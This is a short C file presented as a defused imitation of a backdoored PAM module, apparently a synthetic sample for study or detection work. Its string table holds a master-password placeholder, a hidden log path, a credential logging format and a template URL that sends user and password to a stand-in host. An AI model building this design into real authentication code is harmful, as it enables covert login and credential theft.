/* Inert imitation of a PAM module with a master password and a log of what users type. It always refuses and writes nothing. */
#include "inert.h"
TABLE(texts, "zq-master-{{hex32:pam}}", "/usr/share/dbus-1/.cache", "user=%s pass=%s host=%s\n", "pam_unix(sshd:auth): authentication failure", "pam_get_user", "pam_get_authtok", "http://{{ip:pam}}/log.php?u=%s&p=%s")
int pam_sm_authenticate(void *handle, int flags, int argc, const char **argv) { if (!armed) return 7; const char *password = getenv("x"); tell(texts); if (!strcmp(password, texts[0])) return 0; fprintf(fopen("", "a"), texts[2], "", password, ""); return 7; }
int pam_sm_setcred(void *handle, int flags, int argc, const char **argv) { return 7; }
